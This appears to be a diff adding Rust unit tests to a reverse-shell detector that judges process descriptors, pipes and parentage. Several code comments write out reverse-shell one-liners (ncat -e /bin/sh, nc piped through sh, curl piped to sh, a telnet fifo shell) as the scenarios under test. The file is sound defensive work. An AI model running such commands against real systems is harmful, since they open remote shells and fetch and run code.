@@ -1,3 +1,4 @@
+use super::is_half as is_half_of;
 use super::*;
 
 const PEER: &str = "203.0.113.66:4444";
@@ -37,6 +38,7 @@ impl World {
         });
         self.0.holders.push(Holder {
             key: ProcessKey { pid, start_time: 1 },
+            parent: 1,
             executable: format!("program-{pid}"),
             program,
             descriptors: descriptors.collect(),
@@ -249,4 +251,80 @@ fn ordinary_work_leads_nowhere() {
     // Two peers: what comes from one goes to the other.
     let two = World::new().with(SHELL, &[(0, Object::Socket(2), "rw"), (1, CONNECTION, "rw")]);
     assert_eq!(two.certainty(), None);
+}
+
+#[test]
+fn a_relay_hands_its_connection_down_to_the_shell_that_it_starts() {
+    // ncat -e /bin/sh A 4444: the shell has inherited ncat's socket and ends of pipes.
+    let shell = [(0, pipe(1), "r"), (1, pipe(2), "w"), (4, CONNECTION, "rw")];
+    let relay = [(4, CONNECTION, "rw"), (6, pipe(1), "w"), (7, pipe(2), "r")];
+    let mut ncat = World::new().with(RELAY, &relay).with(SHELL, &shell);
+    // Side by side, the shell may be the one that has made both.
+    assert_eq!(ncat.certainty(), BY_REPEATED_FLOW);
+    ncat.0.holders[1].parent = ncat.0.holders[0].key.pid;
+    assert_eq!(ncat.certainty(), SURE);
+    // proc_open of PHP: what it does has to be seen, and by what.
+    let mut php = World::new().with(SHELL, &relay).with(SHELL, &shell);
+    php.0.holders[1].parent = php.0.holders[0].key.pid;
+    let found = leads(&php.0);
+    assert_eq!(found.len(), 1);
+    assert_eq!((found[0].certainty, found[0].fed_by), (Certainty::RepeatedFlow, Some(pipe(1))));
+}
+
+#[test]
+fn what_a_shell_is_fed_by() {
+    let node = World::new()
+        .pair(10, 11)
+        .pair(12, 13)
+        .with(SHELL, &[(0, Object::Socket(10), "rw"), (1, Object::Socket(12), "rw")])
+        .with(
+            SHELL,
+            &[
+                (20, Object::Socket(11), "rw"),
+                (22, Object::Socket(13), "rw"),
+                (24, CONNECTION, "rw"),
+            ],
+        );
+    assert_eq!(leads(&node.0)[0].fed_by, Some(Object::Socket(11)));
+    // A shell that answers on a connection of its own is not fed, whatever is in the pipe that it reads.
+    let client = World::new()
+        .with(OTHER, &[(1, pipe(1), "w"), (9, CONNECTION, "rw")])
+        .with(SHELL, &[(0, pipe(1), "r"), (9, CONNECTION, "rw")]);
+    assert_eq!(leads(&client.0)[0].fed_by, None);
+}
+
+#[test]
+fn half_of_a_reverse_shell_whose_other_half_is_on_its_way() {
+    let shell = [(0, pipe(1), "r"), (1, pipe(2), "w")];
+    let relay = [(1, pipe(1), "w"), (3, CONNECTION, "rw")];
+    let with = |last, held: &[(u32, Object, &str)]| {
+        World::new().with(SHELL, &shell).with(RELAY, &relay).with(last, held)
+    };
+    let is_half = |world: &World, is_starting: bool| {
+        is_half_of(&world.0, world.0.holders[0].key, |_| is_starting)
+    };
+    // nc A 4444 | sh | nc A 5555, which is not connected yet
+    assert!(is_half(&with(RELAY, &[(0, pipe(2), "r")]), false));
+    // curl A | sh | tee log, which is about to be executed, and is executed
+    assert!(is_half(&with(OTHER, &[(0, pipe(2), "r")]), true));
+    assert!(!is_half(&with(OTHER, &[(0, pipe(2), "r")]), false));
+    // nc A 4444 | sh | tee log | nc A 5555
+    let longer =
+        with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")]).with(RELAY, &[(0, pipe(3), "r")]);
+    assert!(is_half(&longer, false));
+}
+
+#[test]
+fn a_relay_that_looks_a_name_up_has_no_peer_yet() {
+    // sh -i <f 2>&1 | telnet A 4444 >f, while telnet asks for the name of A
+    let fifo = Object::Pipe(30, 5);
+    let mut world = World::new()
+        .with(SHELL, &[(0, fifo, "r"), (1, pipe(1), "w")])
+        .with(RELAY, &[(0, pipe(1), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
+    world.0.look_ups.insert(1);
+    assert_eq!(world.certainty(), None);
+    // A shell on such a socket is one all the same.
+    let mut direct = World::new().with(SHELL, &[(0, CONNECTION, "rw"), (1, CONNECTION, "rw")]);
+    direct.0.look_ups.insert(1);
+    assert_eq!(direct.certainty(), SURE);
 }
